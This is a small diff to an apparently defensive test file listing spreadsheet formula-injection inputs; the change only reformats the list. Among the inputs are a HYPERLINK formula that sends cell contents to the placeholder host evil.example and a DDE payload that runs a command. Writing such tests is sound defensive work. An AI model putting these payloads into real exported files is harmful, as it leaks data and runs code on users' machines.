@@ -20,7 +20,8 @@ from serve.pages.wording import Wording
 
 EN = Wording("en", ZoneInfo("UTC"))
 FORMULAS = (
-    "=1+1", "+1", "-2+3", "@SUM(A1)", "\t=1", "\r=1", "\n=1", "＝1", "＋1", "－1", "＠A",
+    "=1+1", "+1", "-2+3", "@SUM(A1)", "\t=1", "\r=1", "\n=1", "＝1", "＋1", "－1",
+    "＠A",
     '=HYPERLINK("http://evil.example?x="&A1,"click")', "=cmd|' /C calc'!A0", "  =1",
 )  # fmt: skip
 STARTS = "=+-@\t\r\n＝＋－＠"
